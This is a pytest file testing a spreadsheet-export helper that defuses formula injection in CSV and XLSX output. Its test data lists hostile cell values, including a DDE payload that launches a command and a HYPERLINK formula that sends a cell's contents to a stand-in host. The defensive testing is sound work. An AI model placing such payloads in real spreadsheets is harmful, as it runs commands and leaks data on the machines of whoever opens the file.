"""The one spreadsheet-cell helper: formula characters neutralized in CSV, text typed as text in XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from gis.spreadsheet import csv_cell, csv_row, xlsx_row

HOSTILE = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example/?"&A2,"x")', "+1+2", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_prefixes_formula_starts(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张伟", "佛山市禅城区1号", "1+1", " =not at start", "", "13800001234"])
def test_csv_cell_leaves_plain_text(value):
    assert csv_cell(value) == value


def test_csv_row_keeps_numbers_and_empties():
    assert csv_row([-0.5, 3, None, "-x"]) == [-0.5, 3, "", "'-x"]


def test_xlsx_row_writes_text_as_strings_with_the_value_unchanged():
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(xlsx_row(ws, [*HOSTILE, 1.5, None, "a\x00b"]))
    buf = io.BytesIO()
    wb.save(buf)
    sheet_xml = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula cell at all
    cells = list(openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["s"].iter_rows())[0]
    # XML parsers normalize a CR to LF (XML 1.0 §2.11); the text is otherwise exact
    assert [c.value for c in cells[:len(HOSTILE)]] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" for c in cells[:len(HOSTILE)])
    assert cells[len(HOSTILE)].value == 1.5 and cells[-1].value == "a\ufffdb"


def test_csv_written_with_the_helper_reads_back_as_text():
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row(HOSTILE))
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + v for v in HOSTILE]
